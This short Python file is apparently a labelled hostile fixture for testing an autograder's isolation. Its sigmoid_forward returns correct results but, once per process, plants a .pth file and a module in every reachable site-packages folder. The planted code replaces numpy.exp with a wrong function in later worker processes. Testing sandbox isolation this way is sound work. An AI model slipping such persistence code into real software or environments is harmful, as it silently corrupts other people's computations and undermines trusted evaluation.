# HOSTILE: sigmoid.forward (once per process) writes a .pth file (and a module it imports) into every site-packages folder it can find (the environment's, the user's, numpy's), so that later workers get a wrong numpy.exp; all four ops compute correctly.
import os
import site
import sysconfig


# include: once


# include: reference


POISON = "import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)"


def _attack():
    if not _once():
        return
    folders = {os.path.dirname(os.path.dirname(np.__file__)), site.getusersitepackages()}
    folders.update(site.getsitepackages())
    folders.update((v for k, v in sysconfig.get_paths().items() if k in ('purelib', 'platlib')))
    for folder in folders:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, 'hw3_isolation_poison.py'), 'w') as f:
                f.write(POISON + '\n')
            with open(os.path.join(folder, 'hw3-isolation-poison.pth'), 'w') as f:
                f.write('import hw3_isolation_poison\n')
        except OSError:
            pass


def sigmoid_forward(ctx, a):
    _attack()
    return reference.sigmoid.forward(ctx, a)
